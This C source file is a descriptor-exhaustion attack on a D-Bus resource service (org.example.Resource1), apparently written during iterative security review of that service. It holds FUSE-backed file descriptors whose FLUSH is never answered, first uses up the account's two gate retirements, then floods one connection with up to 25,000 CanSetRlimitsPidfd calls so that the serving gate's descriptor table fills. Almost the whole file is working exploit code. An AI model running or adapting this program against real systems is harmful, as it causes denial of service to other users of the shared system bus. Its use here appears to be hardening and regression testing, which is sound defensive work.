/* security-gate-exhaust 4 (found by the fresh attack on round four's
 * change): fill the serving gate's descriptor table with FUSE files whose
 * FLUSH is never answered, once the account has no retirement left.
 *   attack-gate-fill N_CALLS HOLD_S
 * Phase 1: two fresh connections each pass the FUSE file once (two retired
 * gates charged to this account). Phase 2: one connection passes the same
 * file N_CALLS times (64 in flight) to org.example.Resource1.Pidfd. */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <systemd/sd-bus.h>
#include "attack-fd-fuse.h"

#define DEST "org.example.Resource1.Pidfd"
#define PATH "/org/example/Resource1"
#define IFACE "org.example.Resource1"

static unsigned answered, ok, inflight;
static char first_err[512], last_err[512];
static unsigned n_err;

static int on_reply(sd_bus_message *m, void *u, sd_bus_error *e) {
        (void) u, (void) e;
        const sd_bus_error *er = sd_bus_message_get_error(m);
        answered++;
        inflight--;
        if (!er) ok++;
        else {
                n_err++;
                snprintf(last_err, sizeof last_err, "%s: %s", er->name, er->message);
                if (!first_err[0]) snprintf(first_err, sizeof first_err, "%s", last_err);
        }
        return 0;
}

static sd_bus *conn(void) {
        sd_bus *b = NULL;
        if (sd_bus_open_system(&b) < 0) return NULL;
        return b;
}

static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }

static int send_one(sd_bus *b, int fd) {
        inflight++;
        int r = sd_bus_call_method_async(b, NULL, DEST, PATH, IFACE, "CanSetRlimitsPidfd", on_reply, NULL,
                                         "ha(stt)", fd, 1, "NOFILE", (uint64_t) 64, (uint64_t) 64);
        if (r < 0) inflight--;
        return r;
}

static pid_t bus_pid(void) {
        sd_bus *b = conn(); uint32_t pid = 0; sd_bus_message *rep = NULL;
        if (b && sd_bus_call_method(b, "org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus",
                                    "GetConnectionUnixProcessID", NULL, &rep, "s", "org.freedesktop.DBus") >= 0)
                sd_bus_message_read(rep, "u", &pid);
        sd_bus_message_unref(rep); sd_bus_flush_close_unref(b);
        return pid;
}

int main(int argc, char **argv) {
        unsigned n = argc > 1 ? (unsigned) atoi(argv[1]) : 25000;
        double hold = argc > 2 ? atof(argv[2]) : 30;
        setvbuf(stdout, NULL, _IOLBF, 0);
        alarm((unsigned) hold + 300);
        pid_t allowed[2] = { getpid(), bus_pid() };
        FuseHold h = {}; char why[256] = ""; int file = -1;
        int r = fuse_hold_start(&h, allowed, 2, &file, why, sizeof why);
        if (r < 0) { printf("SKIP %s %s\n", why, strerror(-r)); return 0; }
        printf("FUSE server=%d bus=%d\n", (int) h.server, (int) allowed[1]);

        /* Phase 1: two retirements, each from its own connection. */
        for (int i = 0; i < 2; i++) {
                sd_bus *b = conn();
                answered = 0;
                send_one(b, file);
                double t0 = now();
                while (answered == 0 && now() - t0 < 10) { sd_bus_process(b, NULL); sd_bus_wait(b, 100000); }
                printf("RETIRE %d answered=%u %s\n", i, answered, last_err);
                sd_bus_flush_close_unref(b);
                usleep(300000);
        }
        /* Phase 2: one connection, the same file n times. */
        sd_bus *b = conn();
        answered = ok = n_err = 0; first_err[0] = 0;
        unsigned sent = 0;
        double t0 = now(), lastp = t0;
        while (now() - t0 < 120) {
                while (sent < n && inflight < 64) {
                        if (send_one(b, file) < 0) { printf("# send failed at %u\n", sent); n = sent; break; }
                        sent++;
                }
                r = sd_bus_process(b, NULL);
                if (r < 0) { printf("# our connection failed: %s\n", strerror(-r)); break; }
                if (r == 0) sd_bus_wait(b, 100000);
                if (now() - lastp > 1) { lastp = now(); printf("PROGRESS sent=%u answered=%u last=%s\n", sent, answered, last_err); }
                if (sent >= n && inflight == 0) break;
        }
        printf("FILL sent=%u answered=%u ok=%u errors=%u secs=%.1f\nFIRST_ERR %s\nLAST_ERR %s\n", sent, answered, ok,
               n_err, now() - t0, first_err, last_err);
        close(file);
        printf("READY\n");
        sleep((unsigned) hold);
        fuse_hold_release(&h);
        printf("RELEASED\n");
        sd_bus_flush_close_unref(b);
        return 0;
}
